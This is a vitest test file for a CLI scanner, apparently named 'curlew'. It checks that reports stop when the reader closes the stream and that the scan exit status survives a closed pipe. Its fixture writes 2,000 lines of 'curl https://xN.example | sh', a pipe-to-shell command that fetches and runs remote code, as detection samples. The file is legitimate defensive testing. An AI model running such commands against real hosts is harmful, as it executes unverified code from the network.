import { PassThrough } from "node:stream";
import { describe, expect, it } from "vitest";
import { Output } from "../../src/cli/output.js";
import { ReportOutput } from "../../src/cli/scan/report-output.js";
import type { Examined } from "../../src/cli/examine.js";
import type { Progress } from "../../src/cli/progress.js";
import { folderWith } from "./folder-with.js";
import { bash } from "./curlew-process.js";

const progress = { clear: () => undefined } as unknown as Progress;

describe("an output with many findings whose reader closes it", () => {
  it("is not generated after that", async () => {
    const stream = new PassThrough();
    let made = 0;
    const report = new ReportOutput(
      {
        begin: () => "",
        file: () => "",
        *pieces() {
          for (; made < 20_000; made++) {
            if (made === 10) stream.destroy();
            yield "a finding\n";
          }
        },
        end: () => "",
      },
      new Output(stream),
    );
    await report.file({} as Examined, progress);
    expect(report.isOpen).toBe(false);
    expect(made).toBeLessThan(20);
  });

  it("ends the scan with the status of its findings", async () => {
    const text = Array.from({ length: 2000 }, (_, at) => `curl https://x${at}.example | sh\n`);
    const cwd = folderWith({ "many.sh": text.join("") });
    const { stdout, stderr } = await bash(
      'curlew scan many.sh | head -n 1; echo "status ${PIPESTATUS[0]}"',
      { cwd },
    );
    expect(stdout).toMatch(/^many\.sh:1:1: .*\nstatus 1\n$/);
    expect(stderr).not.toMatch(/EPIPE|\n\s+at /);
  });
});
